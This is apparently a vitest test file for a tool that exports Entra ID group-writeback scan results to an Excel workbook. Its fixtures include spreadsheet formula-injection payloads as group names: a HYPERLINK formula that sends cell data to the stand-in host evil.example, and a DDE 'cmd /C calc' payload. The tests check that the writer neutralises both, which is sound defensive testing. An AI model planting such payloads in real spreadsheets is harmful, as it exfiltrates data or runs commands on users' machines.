import ExcelJS from 'exceljs';
import { Writable } from 'node:stream';
import { describe, expect, it } from 'vitest';
import type { ExpectationViolation } from '../../src/alerts/expectations';
import { addToCounts, emptyCounts, FINDINGS } from '../../src/classify';
import type { ClassifiedGroup, ScanRecord, TenantContext } from '../../src/model';
import { cloudSyncContext, cloudSyncJob } from '../helpers/cloudSync';
import { EXCEL_MAX_CELL_CHARS, TRUNCATION_MARK } from '../../src/report/cellText';
import { GROUP_COLUMNS, FINDING_COLUMNS, writeScanReport } from '../../src/report/scanReport';
import { enabledSecurityGroup, group, guid } from '../diff/groups';
import { cellAt, fillOf, formulaCells, headers, rowLabelled, sheet, writeAndRead } from './workbooks';

const FORMULA_NAMES = ['=HYPERLINK("https://evil.example/?x="&A1,"Click")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A2)'];
const LONG_MAIL = `${'m'.repeat(40_000)}@contoso.example`;

function groups(): ClassifiedGroup[] {
  return [
    group(guid(1), { displayName: FORMULA_NAMES[0]!, mail: 'team@contoso.example' }),
    enabledSecurityGroup(guid(2), {
      displayName: FORMULA_NAMES[1]!,
      findings: ['roleAssignableWrittenBack', 'dynamicGroupWrittenBackAsSecurity'],
      flags: { roleAssignable: true, dynamic: true, visibility: null },
      memberCount: 1234,
      createdDateTime: '2023-05-06T07:08:09Z',
    }),
    enabledSecurityGroup(guid(3), {
      displayName: FORMULA_NAMES[2]!,
      bucket: 'notWrittenBack',
      effectiveTargetType: null,
      reason: 'disabled',
      raw: { isEnabled: false },
    }),
    group(guid(4), {
      displayName: FORMULA_NAMES[3]!,
      bucket: 'writtenBack',
      effectiveTargetType: 'universalSecurityGroup',
      reason: 'enabled',
      findings: [],
      portalShowsNoWriteback: false,
      flags: { team: true, visibility: 'Public' },
      raw: { isEnabled: true, onPremisesGroupType: 'UniversalSecurityGroup', onPremisesGroupTypeNormalized: 'universalSecurityGroup' },
    }),
    group(guid(5), { displayName: 'Bell\u0007 and\u0000 nul\r\nnext line\uFFFF' }),
    group(guid(6), { mail: LONG_MAIL }),
    group('fixture-group', { displayName: 'Not a GUID', createdDateTime: 'not a date' }),
    group(guid(8), { displayName: null }),
  ];
}

function tenantContext(overrides: Partial<TenantContext> = {}): TenantContext {
  return {
    newUnifiedGroupWritebackDefault: false,
    newUnifiedGroupWritebackDefaultRaw: 'False',
    newUnifiedGroupWritebackDefaultSource: 'setting',
    groupWritebackFeatureEnabled: true,
    groupWritebackFeatureUnknownReason: null,
    lastDirectorySyncDateTime: '2026-11-26T01:30:00Z',
    cloudSync: null,
    ...overrides,
  };
}

function scanOf(items: readonly ClassifiedGroup[], context: TenantContext | null = tenantContext()): ScanRecord {
  const counts = emptyCounts();
  for (const item of items) addToCounts(counts, item);
  return {
    id: '20261126T020000Z-3fa9c1',
    tenantId: '11111111-2222-3333-4444-555555555555',
    trigger: 'timer',
    status: 'complete',
    startedAt: new Date('2026-11-26T02:00:00.000Z'),
    finishedAt: new Date('2026-11-26T02:07:30.000Z'),
    counts,
    tenantContext: context,
    pages: 3,
    retries: 1,
    error: null,
  };
}

/** A re-iterable snapshot that counts how often it is read. */
function snapshot(items: readonly ClassifiedGroup[]): { groups: () => AsyncIterable<ClassifiedGroup>; passes: () => number } {
  let passes = 0;
  return {
    groups: () => {
      passes += 1;
      return (async function* () {
        yield* items;
      })();
    },
    passes: () => passes,
  };
}

const violation: ExpectationViolation = {
  expectationId: 'no-security-writeback',
  description: 'Security groups stay in the cloud',
  severity: 'high',
  groupId: guid(2),
  displayName: FORMULA_NAMES[1]!,
  expected: { buckets: ['notWrittenBack', 'legacyDefault'], effectiveTargetTypes: [null] },
  actual: { bucket: 'writtenBack', effectiveTargetType: 'universalSecurityGroup' },
  failed: ['bucket'],
};

describe('writeScanReport: writeback engines', () => {
  it('shows each engine\'s verdict in its own columns and states the engines on the Summary', async () => {
    const provisioned = enabledSecurityGroup(guid(20), {
      reason: 'cloudSyncProvisioned',
      engines: {
        connectSyncV2: { verdict: 'notWrittenBack', targetType: null, reason: 'securityDefaultOff' },
        cloudSync: { verdict: 'writtenBack', targetType: 'universalSecurityGroup', reason: 'cloudSyncProvisioned', domain: 'contoso.example', container: 'OU=Groups,DC=contoso,DC=example', detail: 'contoso.example (job AAD2ADGroupProvisioning.1)' },
      },
    });
    const legacy = group(guid(21), { bucket: 'notWrittenBack', effectiveTargetType: null, reason: 'disabled', raw: { isEnabled: false }, findings: [] });
    const items = [provisioned, legacy];
    const counts = emptyCounts(['connectSyncV2', 'cloudSync']);
    for (const item of items) addToCounts(counts, item);
    const workbook = await writeAndRead((out) => writeScanReport(out, { scan: { ...scanOf(items), counts }, groups: snapshot(items).groups }));
    const groupsSheet = sheet(workbook, 'Groups');
    const column = (header: string) => GROUP_COLUMNS.findIndex((c) => c.header === header) + 1;
    const row = groupsSheet.getRow(2);
    expect(row.getCell(column('Connect Sync v2 verdict')).value).toBe('notWrittenBack (securityDefaultOff)');
    expect(row.getCell(column('Connect Sync v1 verdict')).value).toBeNull();
    expect(row.getCell(column('Cloud Sync verdict')).value).toBe('writtenBack as universalSecurityGroup (cloudSyncProvisioned)');
    expect(row.getCell(column('Cloud Sync domain')).value).toBe('contoso.example');
    expect(row.getCell(column('Cloud Sync container')).value).toBe('OU=Groups,DC=contoso,DC=example');
    const summary = sheet(workbook, 'Summary');
    expect(rowLabelled(summary, 'Writeback engines assumed').getCell(2).value).toBe('connectSyncV2,cloudSync');
    // The disabled Microsoft 365 group is what v1 would newly write back.
    expect(rowLabelled(summary, 'Newly written back under Connect Sync v1').getCell(2).value).toBe(1);
  });

  it('says a scan from before engines were recorded assumed Connect Sync v2', async () => {
    const items = [group(guid(22))];
    const workbook = await writeAndRead((out) => writeScanReport(out, { scan: scanOf(items), groups: snapshot(items).groups }));
    expect(rowLabelled(sheet(workbook, 'Summary'), 'Writeback engines assumed').getCell(2).value).toBe('connectSyncV2');
  });
});

describe('writeScanReport', () => {
  it('writes Summary, Groups and Findings sheets that read back with the input values', async () => {
    const items = groups();
    const source = snapshot(items);
    let result: unknown;
    const workbook = await writeAndRead(async (out) => {
      result = await writeScanReport(out, { scan: scanOf(items), groups: source.groups });
    });

    expect(result).toEqual({ rows: items.length, findingRows: 7, violationRows: null });
    expect(source.passes()).toBe(1); // one read of the snapshot; Findings come from a temporary file
    expect(workbook.worksheets.map((w) => w.name)).toEqual(['Summary', 'Groups', 'Findings']);

    const groupsSheet = sheet(workbook, 'Groups');
    expect(headers(groupsSheet)).toEqual(GROUP_COLUMNS.map((c) => c.header));
    expect(groupsSheet.rowCount).toBe(items.length + 1);
    items.forEach((item, index) => {
      const row = index + 2;
      expect(cellAt(groupsSheet, row, 'Group id').value).toBe(item.id);
      expect(cellAt(groupsSheet, row, 'Kind').value).toBe(item.kind);
      expect(cellAt(groupsSheet, row, 'Bucket (per Entra configuration)').value).toBe(item.bucket);
      expect(cellAt(groupsSheet, row, 'Reason').value).toBe(item.reason);
      expect(cellAt(groupsSheet, row, 'isEnabled (raw)').value).toBe(item.raw.isEnabled === null ? 'null' : String(item.raw.isEnabled));
      expect(cellAt(groupsSheet, row, 'onPremisesGroupType (raw)').value).toBe(item.raw.onPremisesGroupType ?? 'null');
      expect(cellAt(groupsSheet, row, 'Team').value).toBe(item.flags.team);
    });

    // Formula-looking names are string cells holding exactly the name.
    FORMULA_NAMES.forEach((name, index) => {
      const cell = cellAt(groupsSheet, index + 2, 'Name');
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.value).toBe(name);
    });
  });

  it('shows raw values, portal label, reason, findings, flags and member count per group', async () => {
    const items = groups();
    const workbook = await writeAndRead((out) => writeScanReport(out, { scan: scanOf(items), groups: snapshot(items).groups }));
    const groupsSheet = sheet(workbook, 'Groups');

    // Row 3: the role-assignable, dynamic security group.
    expect(cellAt(groupsSheet, 3, 'Entra portal shows').value).toBe('Writeback enabled (no target type set)');
    expect(cellAt(groupsSheet, 3, 'Finding codes').value).toBe(`${FINDINGS.roleAssignableWrittenBack.id}, ${FINDINGS.dynamicGroupWrittenBackAsSecurity.id}`);
    expect(cellAt(groupsSheet, 3, 'Findings').value).toBe(`${FINDINGS.roleAssignableWrittenBack.title}; ${FINDINGS.dynamicGroupWrittenBackAsSecurity.title}`);
    expect(cellAt(groupsSheet, 3, 'Highest severity').value).toBe('high');
    expect(cellAt(groupsSheet, 3, 'Member count').value).toBe(1234);
    expect(cellAt(groupsSheet, 3, 'Role-assignable').value).toBe(true);
    expect(cellAt(groupsSheet, 3, 'Dynamic').value).toBe(true);
    expect(cellAt(groupsSheet, 3, 'Effective target type').value).toBe('universalSecurityGroup');
    // Row 4: disabled, so no effective target; row 5: the raw casing is kept for display.
    expect(cellAt(groupsSheet, 4, 'Effective target type').value).toBe('none');
    expect(cellAt(groupsSheet, 5, 'onPremisesGroupType (raw)').value).toBe('UniversalSecurityGroup');
    expect(cellAt(groupsSheet, 5, 'Entra portal shows').value).toBe('Security');
    expect(cellAt(groupsSheet, 5, 'Visibility').value).toBe('Public');
    // Row 2: the legacy default, which the portal labels "No writeback".
    expect(cellAt(groupsSheet, 2, 'Entra portal shows').value).toBe('No writeback');
    expect(cellAt(groupsSheet, 2, 'Reason explained').value).toContain('never configured');
    expect(cellAt(groupsSheet, 2, 'Mail').value).toBe('team@contoso.example');
    expect(cellAt(groupsSheet, 2, 'Member count').value).toBeNull();
  });

  it('writes dates as date cells, colours buckets, and freezes and filters the header row', async () => {
    const items = groups();
    const workbook = await writeAndRead((out) => writeScanReport(out, { scan: scanOf(items), groups: snapshot(items).groups }));
    const groupsSheet = sheet(workbook, 'Groups');

    const created = cellAt(groupsSheet, 3, 'Created (UTC)');
    expect(created.type).toBe(ExcelJS.ValueType.Date);
    expect((created.value as Date).toISOString()).toBe('2023-05-06T07:08:09.000Z');
    // A createdDateTime that is not a date stays visible as text.
    expect(cellAt(groupsSheet, 8, 'Created (UTC)').value).toBe('not a date');

    const fills = [2, 3, 4].map((row) => fillOf(cellAt(groupsSheet, row, 'Bucket (per Entra configuration)')));
    expect(new Set(fills).size).toBe(3);
    expect(fills.every((argb) => typeof argb === 'string')).toBe(true);

    for (const name of ['Groups', 'Findings']) {
      const worksheet = sheet(workbook, name);
      expect(worksheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
      expect(worksheet.getRow(1).getCell(1).font?.bold).toBe(true);
      expect(fillOf(worksheet.getRow(1).getCell(1))).toBeDefined();
      expect(worksheet.getColumn(1).width).toBe((name === 'Groups' ? GROUP_COLUMNS : FINDING_COLUMNS)[0]!.width);
    }
    expect(groupsSheet.autoFilter).toBe(`A1:${columnLetters(GROUP_COLUMNS.length)}${items.length + 1}`);
    expect(sheet(workbook, 'Findings').autoFilter).toBe('A1:H8');
  });

  it('cleans text Excel cannot hold: control characters removed, line ends normalised, over-long text truncated', async () => {
    const items = groups();
    const workbook = await writeAndRead((out) => writeScanReport(out, { scan: scanOf(items), groups: snapshot(items).groups }));
    const groupsSheet = sheet(workbook, 'Groups');
    expect(cellAt(groupsSheet, 6, 'Name').value).toBe('Bell and nul\nnext line');
    const mail = cellAt(groupsSheet, 7, 'Mail').value as string;
    expect(mail).toHaveLength(EXCEL_MAX_CELL_CHARS);
    expect(mail.endsWith(TRUNCATION_MARK)).toBe(true);
    expect(LONG_MAIL.startsWith(mail.slice(0, -TRUNCATION_MARK.length))).toBe(true);
    expect(cellAt(groupsSheet, 9, 'Name').value).toBeNull();
  });

  it('links each GUID group to the Entra admin center, and writes no other formula', async () => {
    const items = groups();
    const workbook = await writeAndRead((out) => writeScanReport(out, { scan: scanOf(items), groups: snapshot(items).groups }));
    const linkColumn = columnLetters(GROUP_COLUMNS.findIndex((c) => c.header === 'Entra admin center') + 1);
    const expected = items
      .map((item, index) => [item, index + 2] as const)
      .filter(([item]) => item.id !== 'fixture-group')
      .map(([item, row]): [string, string, string] => [
        'Groups',
        `${linkColumn}${row}`,
        `HYPERLINK("https://entra.microsoft.com/#view/Microsoft_AAD_IAM/GroupDetailsMenuBlade/~/Overview/groupId/${item.id}","Open in Entra")`,
      ]);
    expect(formulaCells(workbook)).toEqual(expected);
    expect(cellAt(sheet(workbook, 'Groups'), 8, 'Entra admin center').value).toBeNull();
  });

  it('uses another portal base URL when given one', async () => {
    const items = [group(guid(1))];
    const workbook = await writeAndRead((out) =>
      writeScanReport(out, { scan: scanOf(items), groups: snapshot(items).groups, entraPortalBaseUrl: 'https://entra.microsoft.us/' }),
    );
    expect(formulaCells(workbook)[0]?.[2]).toContain('"https://entra.microsoft.us/#view/');
  });

  it('lists one Findings row per group and finding, with the catalog text', async () => {
    const items = groups();
    const workbook = await writeAndRead((out) => writeScanReport(out, { scan: scanOf(items), groups: snapshot(items).groups }));
    const findings = sheet(workbook, 'Findings');
    expect(headers(findings)).toEqual(FINDING_COLUMNS.map((c) => c.header));
    const rows: Array<[unknown, unknown, unknown]> = [];
    findings.eachRow((row, number) => {
      if (number > 1) rows.push([row.getCell(1).value, row.getCell(4).value, row.getCell(5).value]);
    });
    const f07 = FINDINGS.portalShowsNoWriteback.id;
    expect(rows).toEqual([
      [f07, guid(1), FORMULA_NAMES[0]],
      [FINDINGS.roleAssignableWrittenBack.id, guid(2), FORMULA_NAMES[1]],
      [FINDINGS.dynamicGroupWrittenBackAsSecurity.id, guid(2), FORMULA_NAMES[1]],
      [f07, guid(5), 'Bell and nul\nnext line'],
      [f07, guid(6), 'Group 00000006'],
      [f07, 'fixture-group', 'Not a GUID'],
      [f07, guid(8), null],
    ]);
    const first = findings.getRow(2);
    expect(first.getCell(2).value).toBe(FINDINGS.portalShowsNoWriteback.severity);
    expect(first.getCell(3).value).toBe(FINDINGS.portalShowsNoWriteback.title);
    expect(first.getCell(7).value).toBe(FINDINGS.portalShowsNoWriteback.rationale);
    expect(first.getCell(8).value).toBe(FINDINGS.portalShowsNoWriteback.remediation);
    expect(findings.getRow(2).getCell(5).type).toBe(ExcelJS.ValueType.String);
  });

  it('summarises the scan from its record: dates, tenant settings, bucket by kind, severities, assumptions', async () => {
    const items = groups();
    const scan = scanOf(items);
    const workbook = await writeAndRead((out) => writeScanReport(out, { scan, groups: snapshot(items).groups }));
    const summary = sheet(workbook, 'Summary');

    expect(rowLabelled(summary, 'Tenant').getCell(2).value).toBe(scan.tenantId);
    expect(rowLabelled(summary, 'Scan id').getCell(2).value).toBe(scan.id);
    expect(rowLabelled(summary, 'Trigger').getCell(2).value).toBe('timer');
    for (const [label, expected] of [
      ['Scan started (UTC)', scan.startedAt],
      ['Scan finished (UTC)', scan.finishedAt],
      ['Last directory sync (UTC)', new Date('2026-11-26T01:30:00Z')],
    ] as const) {
      const cell = rowLabelled(summary, label).getCell(2);
      expect(cell.type).toBe(ExcelJS.ValueType.Date);
      expect((cell.value as Date).getTime()).toBe(expected!.getTime());
    }
    expect(rowLabelled(summary, 'Groups').getCell(2).value).toBe(items.length);
    expect(rowLabelled(summary, 'NewUnifiedGroupWritebackDefault (effective)').getCell(2).value).toBe('false');
    expect(rowLabelled(summary, 'NewUnifiedGroupWritebackDefault (raw value)').getCell(2).value).toBe('False');
    expect(rowLabelled(summary, 'NewUnifiedGroupWritebackDefault (source)').getCell(2).value).toBe('Group.Unified directory setting');
    expect(rowLabelled(summary, 'Group writeback feature (tenant)').getCell(2).value).toBe('on');

    // Bucket × kind: the scan record's counts, which the groups above add up to.
    const legacy = rowLabelled(summary, 'legacyDefault');
    expect((legacy.values as unknown[]).slice(2, 9)).toEqual([5, 0, 0, 0, 0, 5]);
    const writtenBack = rowLabelled(summary, 'writtenBack');
    expect((writtenBack.values as unknown[]).slice(2, 9)).toEqual([1, 1, 0, 0, 0, 2]);
    expect(fillOf(legacy.getCell(1))).toBe(fillOf(cellAt(sheet(workbook, 'Groups'), 2, 'Bucket (per Entra configuration)')));
    expect(rowLabelled(summary, 'Total').getCell(7).value).toBe(items.length);

    expect(rowLabelled(summary, 'high').getCell(2).value).toBe(1);
    expect(rowLabelled(summary, 'medium').getCell(2).value).toBe(1);
    expect(rowLabelled(summary, 'low').getCell(2).value).toBe(5);
    expect(rowLabelled(summary, FINDINGS.portalShowsNoWriteback.title).getCell(4).value).toBe(5);

    const assumptionsRow = rowLabelled(summary, 'Assumptions').number + 1;
    expect(summary.getRow(assumptionsRow).getCell(1).value).toContain('per Entra configuration');
    let warnings = 0;
    summary.eachRow((row) => {
      if (String(row.getCell(1).value).startsWith('WARNING')) warnings += 1;
    });
    expect(warnings).toBe(0);
  });

  it('warns when the tenant feature flag is off, and says when it is unknown or settings were not read', async () => {
    const items = [group(guid(1))];
    const off = await writeAndRead((out) =>
      writeScanReport(out, { scan: scanOf(items, tenantContext({ groupWritebackFeatureEnabled: false })), groups: snapshot(items).groups }),
    );
    expect(rowLabelled(sheet(off, 'Summary'), 'Group writeback feature (tenant)').getCell(2).value).toBe('off');
    let warning: unknown = null;
    sheet(off, 'Summary').eachRow((row) => {
      const value = row.getCell(1).value;
      if (typeof value === 'string' && value.startsWith('WARNING')) warning = value;
    });
    expect(warning).toContain('Nothing is actually written back');

    const unknown = await writeAndRead((out) =>
      writeScanReport(out, {
        scan: scanOf(items, tenantContext({ groupWritebackFeatureEnabled: null, groupWritebackFeatureUnknownReason: 'Graph refused it (HTTP 403): delegated only.', lastDirectorySyncDateTime: null })),
        groups: snapshot(items).groups,
      }),
    );
    const summary = sheet(unknown, 'Summary');
    expect(rowLabelled(summary, 'Group writeback feature (tenant)').getCell(2).value).toBe('unknown');
    expect(rowLabelled(summary, 'Group writeback feature (tenant)').getCell(3).value).toBe('Graph refused it (HTTP 403): delegated only.');
    expect(rowLabelled(summary, 'Last directory sync (UTC)').getCell(2).value).toBe('unknown or never synced');

    const unread = await writeAndRead((out) => writeScanReport(out, { scan: scanOf(items, null), groups: snapshot(items).groups }));
    expect(() => rowLabelled(sheet(unread, 'Summary'), 'Tenant settings were not read in this scan.')).not.toThrow();
  });

  it('states the Cloud Sync context: its jobs, a quarantined job as a warning, and a missing permission', async () => {
    const items = [group(guid(1))];
    const quarantined = cloudSyncJob({ statusCode: 'Quarantine', quarantined: true, quarantineReason: 'EncounteredQuarantineException' });
    const read = await writeAndRead((out) => writeScanReport(out, { scan: scanOf(items, tenantContext({ cloudSync: cloudSyncContext([quarantined]) })), groups: snapshot(items).groups }));
    const summary = sheet(read, 'Summary');
    expect(rowLabelled(summary, 'Cloud Sync (group provisioning to AD)').getCell(2).value).toBe('1 group provisioning job');
    expect(String(rowLabelled(summary, 'Cloud Sync job').getCell(2).value)).toMatch(/^contoso\.com → contoso\.com: Quarantine; .*2 groups assigned; container OU=CloudGroups,DC=contoso,DC=com/);
    const warnings: string[] = [];
    summary.eachRow((row) => {
      const value = row.getCell(1).value;
      if (typeof value === 'string' && value.startsWith('WARNING')) warnings.push(value);
    });
    expect(warnings).toEqual([`WARNING: Cloud Sync job contoso.com (${quarantined.jobId}) is in quarantine (EncounteredQuarantineException): the groups in its scope are no longer updated in AD.`]);

    const unknown = cloudSyncContext([], { status: 'unknown', missingPermissions: ['Synchronization.Read.All'], unknownReason: 'Cloud Sync could not be read completely: Graph refused it.' });
    const refused = await writeAndRead((out) => writeScanReport(out, { scan: scanOf(items, tenantContext({ cloudSync: unknown })), groups: snapshot(items).groups }));
    const refusedSummary = sheet(refused, 'Summary');
    expect(String(rowLabelled(refusedSummary, 'Cloud Sync (group provisioning to AD)').getCell(2).value)).toMatch(/^UNKNOWN: Cloud Sync could not be read completely/);
    expect(rowLabelled(refusedSummary, 'Missing Graph permissions').getCell(2).value).toBe('Synchronization.Read.All');
  });

  it('adds a Policy violations sheet when violations are given', async () => {
    const items = groups();
    const workbook = await writeAndRead((out) =>
      writeScanReport(out, {
        scan: scanOf(items),
        groups: snapshot(items).groups,
        violations: async function* () {
          yield violation;
        },
      }),
    );
    expect(workbook.worksheets.map((w) => w.name)).toEqual(['Summary', 'Groups', 'Findings', 'Policy violations']);
    const violations = sheet(workbook, 'Policy violations');
    expect(violations.rowCount).toBe(2);
    expect((violations.getRow(2).values as unknown[]).slice(1)).toEqual([
      'no-security-writeback',
      'Security groups stay in the cloud',
      'high',
      guid(2),
      FORMULA_NAMES[1],
      'bucket',
      'buckets: notWrittenBack, legacyDefault; effectiveTargetTypes: none',
      'writtenBack',
      'universalSecurityGroup',
    ]);
    expect(violations.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
  });

  it('stops reading groups while the output does not take data, and finishes once it does', async () => {
    const total = 40_000;
    let produced = 0;
    let release: () => void = () => undefined;
    const released = new Promise<void>((resolve) => (release = resolve));
    let received = 0;
    const out = new Writable({
      write(chunk: Buffer, _encoding, callback) {
        received += chunk.length;
        // A client that stops reading: nothing is acknowledged until released.
        void released.then(() => callback());
      },
    });
    const scanRecord = scanOf([]);
    const report = writeScanReport(out, {
      scan: scanRecord,
      groups: () =>
        (async function* () {
          for (let i = 0; i < total; i++) {
            produced += 1;
            yield group(guid(i));
          }
        })(),
    });

    // Wait until production settles (no progress over several turns of the event loop with timers).
    let last = -1;
    let stableTurns = 0;
    while (stableTurns < 5 && produced < total) {
      await new Promise((resolve) => setTimeout(resolve, 50));
      stableTurns = produced === last ? stableTurns + 1 : 0;
      last = produced;
    }
    expect(received).toBeGreaterThan(0);
    expect(produced).toBeLessThan(total / 5);

    release();
    const result = await report;
    expect(result.rows).toBe(total);
  });
});

/** Excel column letters of a 1-based column number (27 = AA). */
function columnLetters(column: number): string {
  let letters = '';
  for (let n = column; n > 0; n = Math.floor((n - 1) / 26)) letters = String.fromCharCode(65 + ((n - 1) % 26)) + letters;
  return letters;
}
